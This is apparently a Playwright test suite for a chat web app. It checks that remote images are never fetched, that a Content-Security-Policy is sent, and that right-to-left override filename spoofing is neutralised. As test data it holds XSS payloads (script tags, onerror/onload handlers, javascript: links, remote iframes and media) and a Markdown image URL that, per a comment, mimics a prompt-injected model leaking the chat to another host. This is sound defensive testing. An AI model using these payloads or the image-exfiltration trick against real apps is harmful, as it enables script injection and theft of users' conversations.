"""Text the app did not write, in a real browser: images from elsewhere never load, titles cannot lie."""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import httpx
import pytest

from tests.test_browser import app, browser, goto, send  # noqa: F401 (fixtures)
from tests.test_browser_chat import choose_file, open_sidebar_on_phone, page, wait_idle  # noqa: F401 (fixtures)

ONE_PIXEL_GIF = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")


@pytest.fixture
def elsewhere():
    """Another host (another port is another origin): every request it gets is a leak."""
    requests: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requests.append(self.path)
            self.send_response(200)
            self.send_header("content-type", "image/gif")
            self.end_headers()
            self.wfile.write(ONE_PIXEL_GIF)

        def log_message(self, *args) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", requests
    server.shutdown()


def test_an_image_from_another_host_is_never_fetched_and_the_answer_shows_it_as_a_link(app, page, elsewhere):  # noqa: F811
    host, requests = elsewhere
    goto(page, app.url)
    # The demo model repeats the prompt, as a prompt-injected model would write a URL carrying the chat.
    send(page, f"zeig ![Pixel]({host}/p.gif?d=Geheimnis)")
    wait_idle(page, 1)
    link = page.locator("[data-testid='bot'] a[href*='p.gif']")
    assert link.count() == 1 and "Pixel" in link.inner_text()
    page.reload()
    page.wait_for_function("() => document.querySelectorAll(\"[data-testid='bot'] a[href*='p.gif']\").length == 1")
    page.wait_for_timeout(300)
    assert requests == []  # neither the prompt's bubble nor the answer's, live or reloaded


def test_every_page_and_api_response_allows_images_and_media_only_from_the_app(app):  # noqa: F811
    for path in ("", "sse-demo", "config"):
        policy = httpx.get(f"{app.url}{path}").headers["content-security-policy"]
        assert policy == "img-src 'self' data: blob:; media-src 'self' data: blob:"


def test_a_title_with_a_right_to_left_override_shows_in_the_order_typed(app, page):  # noqa: F811
    goto(page, app.url)
    send(page, "Rechnung\u202efdp.exe bitte prüfen")
    wait_idle(page, 1)
    open_sidebar_on_phone(page)
    page.wait_for_function("() => document.querySelector('#sessions').innerText.includes('Rechnungfdp.exe')")
    assert "\u202e" not in page.locator("#sessions").inner_text()


READING_ORDER = """(phrase) => {
    const bubble = [...document.querySelectorAll("[data-testid='bot']")].pop();
    const walker = document.createTreeWalker(bubble, NodeFilter.SHOW_TEXT);
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
        const at = node.data.indexOf(phrase);
        if (at < 0) continue;
        const range = document.createRange();
        range.setStart(node, at); range.setEnd(node, at + 1);
        const first = range.getBoundingClientRect();
        range.setStart(node, at + phrase.length - 1); range.setEnd(node, at + phrase.length);
        const last = range.getBoundingClientRect();
        return {first: first.left, last: last.left, sameLine: Math.abs(first.top - last.top) < 2};
    }
    return null;
}"""


def test_an_override_typed_in_a_prompt_does_not_reverse_the_answer_that_quotes_it(app, page):  # noqa: F811
    goto(page, app.url)
    send(page, "Factura\u202eanexa.pdf revisar")
    wait_idle(page, 1)
    placed = page.evaluate(READING_ORDER, "I can see")
    assert placed and placed["sameLine"]
    assert placed["first"] < placed["last"]  # "I" before "see", left to right, after the quoted prompt


def hostile_chat(host: str) -> list[dict]:
    """A conversation file whose every message tries to run a script or fetch from another host."""
    pwn = "window.__pwned = (window.__pwned || []).concat"
    html = (
        f"<script>{pwn}('script')</script><img src='{host}/img.gif' onerror=\"{pwn}('onerror')\">"
        f"<svg onload=\"{pwn}('svg')\"></svg><iframe src='{host}/frame'></iframe>"
        f"<video src='{host}/v.mp4' autoplay></video><audio src='{host}/a.mp3' autoplay></audio>"
        f"<object data='{host}/o'></object><embed src='{host}/e'><link rel='stylesheet' href='{host}/s.css'>"
        f"<div style=\"background-image: url('{host}/bg.png')\">styled</div>"
        f"<a href=\"javascript:{pwn}('link')\">a link</a>"
    )
    markdown = f"![Pixel]({host}/md.gif?d=Geheimnis) and ![Remote](https://images.example.com/leak.png?d=Geheimnis)"
    call = {"part_kind": "tool-call", "tool_name": "calculate", "tool_call_id": "step-1", "args": {"expression": html}}
    returned = {
        "part_kind": "tool-return",
        "tool_name": "calculate",
        "tool_call_id": "step-1",
        "content": markdown + html,
    }
    return [
        {"kind": "request", "parts": [{"part_kind": "user-prompt", "content": "Hostile <b>prompt</b> " + html}]},
        {"kind": "response", "parts": [call]},
        {"kind": "request", "parts": [returned]},
        {"kind": "response", "parts": [{"part_kind": "text", "content": "Answer: " + markdown + html}]},
    ]


def test_an_imported_chat_of_html_scripts_remote_images_and_tool_steps_runs_and_fetches_nothing(
    app,  # noqa: F811
    page,  # noqa: F811
    elsewhere,
    tmp_path,
):
    host, fetched = elsewhere
    here = urlsplit(app.url).netloc
    left: dict[str, str | None] = {}  # every request for another host than the app's, and why it failed

    def leaves(request) -> None:
        if not from_here(request.url, here):
            left[request.url] = None

    def failed(request) -> None:
        if request.url in left:
            left[request.url] = request.failure

    page.on("request", leaves)
    page.on("requestfailed", failed)
    goto(page, app.url)
    crafted = tmp_path / "hostile.json"
    crafted.write_text(json.dumps(hostile_chat(host)), encoding="utf-8")
    open_sidebar_on_phone(page)
    choose_file(page, crafted)
    page.wait_for_function("() => document.querySelector('#sidebar-notice')?.innerText.includes('Imported 4 messages')")
    for shown in ("imported", "reloaded"):
        if shown == "reloaded":
            page.reload()
            page.wait_for_function("() => new URLSearchParams(location.search).has('c')")
        page.wait_for_function(
            "() => [...document.querySelectorAll(\"[data-testid='bot']\")].some(b => b.innerText.includes('Answer:'))"
        )
        assert page.locator("[data-testid='bot'] a[href*='md.gif']").count() == 1, (
            shown
        )  # the Markdown image, as a link
        page.get_by_text("🛠️ calculate").first.click()  # the step's arguments and result are shown too
        page.wait_for_function("() => document.body.innerText.includes('md.gif')")
        page.wait_for_timeout(500)
        assert page.evaluate("() => window.__pwned") is None, shown
        kept = "iframe, object, embed, script, link, [onerror], [onload]"
        assert page.locator(f"[data-testid='bot'] :is({kept}), [data-testid='user'] :is({kept})").count() == 0, shown
        assert fetched == [], shown
        # Chromium reports a request the page's Content-Security-Policy refused, then fails it before it is sent.
        assert {url: why for url, why in left.items() if why not in ("csp", "net::ERR_BLOCKED_BY_CSP")} == {}, shown


def from_here(url: str, here: str) -> bool:
    parts = urlsplit(url)
    return parts.scheme in ("data", "blob") or (parts.scheme in ("http", "https", "ws") and parts.netloc == here)
